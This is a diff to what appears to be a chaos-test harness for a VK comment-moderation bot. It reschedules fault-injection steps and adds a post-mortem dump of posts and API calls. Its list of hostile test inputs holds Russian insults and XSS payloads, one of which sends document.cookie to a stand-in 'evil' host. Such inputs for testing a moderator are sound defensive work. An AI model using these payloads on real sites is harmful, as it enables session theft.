@@ -46,6 +46,7 @@ import contextlib
 import json
 import os
 import random
+import re
 import socket
 import sqlite3
 import statistics
@@ -110,7 +111,7 @@ HOSTILE: list[tuple[str, int | None, bool | None]] = [
     (" " * 5000 + "иди нахуй, дебил", None, True),
     ("\n" * 5000 + "иди нахуй, дебил", None, True),
     ("хорошая погода сегодня " * 220 + "иди нахуй, дебил", None, True),
-    ("Пятигорск " * 10_000, None, False),
+    ("Пятигорск " * 10_000, None, None),  # a flood: the judge may call it spam
     ("а" * 100_000, None, None),
     ("<script>alert(document.cookie)</script>", None, False),
     ('<img src=x onerror="fetch(\'//evil/\'+document.cookie)">', None, False),
@@ -146,8 +147,7 @@ def schedule(tokens: dict[str, str]) -> list[Step]:
     every = {"count": -1}
     return [
         Step("error 6 (too many requests), 30%", 10, 15, [{"error_code": 6, "probability": 0.3, **every}]),
-        Step("captcha (14) on bans, 50%", 28, 6, [{"method": "groups.ban", "error_code": 14, "probability": 0.5,
-                                                     **every}]),
+        Step("error 15 aimed at one ban", 28, aimed=True, faults=[{"method": "groups.ban", "error_code": 15}]),
         Step("error 9 (flood control) on deletes, 30%", 36, 15,
              [{"method": "wall.deleteComment", "error_code": 9, "probability": 0.3, **every}]),
         Step("error 15 aimed at one delete", 45, aimed=True, faults=[{"method": "wall.deleteComment", "error_code": 15}]),
@@ -169,7 +169,10 @@ def schedule(tokens: dict[str, str]) -> list[Step]:
              [{"method": "wall.deleteComment", "error_code": 29, "probability": 0.5, **every}]),
         Step("error 901 aimed at one delete", 168, aimed=True, faults=[{"method": "wall.deleteComment",
                                                                         "error_code": 901}]),
-        Step("error 15 aimed at one ban", 172, aimed=True, faults=[{"method": "groups.ban", "error_code": 15}]),
+        # A captcha pauses its token for MODBOT_CAPTCHA_PAUSE (60 s as shipped): placed just before the
+        # outage so that its shadow does not blur the other faults' figures.
+        Step("captcha (14) on bans, 50%", 172, 4, [{"method": "groups.ban", "error_code": 14, "probability": 0.5,
+                                                     **every}]),
         Step("API down 60 s (connections refused)", 178, 60, [{"kind": "down", "mode": "refused"}]),
         Step("database locked 15 s", 242, 15, db_lock=True),
         Step("error 5: community token of page 2 revoked", 260, 10, [{"token": g2, "error_code": 5, **every}]),
@@ -318,7 +321,7 @@ class Chaos:
                     self.health[status] += 1
                     if status != "ok":
                         for reason in data.get("reasons") or data.get("problems") or []:
-                            self.health_reasons[str(reason)[:80]] += 1
+                            self.health_reasons[re.sub(r"\d+(\.\d+)?", "N", str(reason))[:90]] += 1
                 except (aiohttp.ClientError, TimeoutError, OSError):
                     self.health["down"] += 1
                 if self.daemon is not None:
@@ -414,6 +417,7 @@ class Chaos:
         finally:
             con.close()
         first_delete, delete_counts, ban_counts = vk_effects(self.state)
+        self.dump(delete_counts, ban_counts)
         valid = [p for p in self.posted if not p.poison]
         lost = [p for p in valid if p.key not in decided]
 
@@ -480,6 +484,22 @@ class Chaos:
             "log_tracebacks": text.count("Traceback"),
             "log_malformed": text.count("malformed VK event"),
         }
+
+
+    def dump(self, delete_counts: Counter, ban_counts: Counter) -> None:
+        """For a post-mortem: what was posted, and every call VK got about a target acted on twice."""
+        with (self.out / "posted.jsonl").open("w", encoding="utf-8") as fh:
+            for p in self.posted:
+                fh.write(json.dumps(p.__dict__, ensure_ascii=True) + "\n")
+        twice = {f"{-g}:{c}" for (_, g, c), n in delete_counts.items() if n > 1}
+        twice |= {f"{g}:{u}" for (g, u), n in ban_counts.items() if n > 1}
+        with (self.out / "calls.jsonl").open("w", encoding="utf-8") as fh:
+            for c in self.state.calls():
+                if c["method"] in ("wall.deleteComment", "groups.ban", "execute") or c["error_code"] is not None:
+                    rec = {k: c.get(k) for k in ("seq", "time_ms", "method", "params", "via", "parent", "error_code",
+                                                 "http_status", "response", "duration_ms")}
+                    rec["twice"] = target(c["method"], c["params"] or {})[1] in twice
+                    fh.write(json.dumps(rec, ensure_ascii=True, default=str) + "\n")
 
 
 def _params(raw: Any) -> dict[str, Any]:
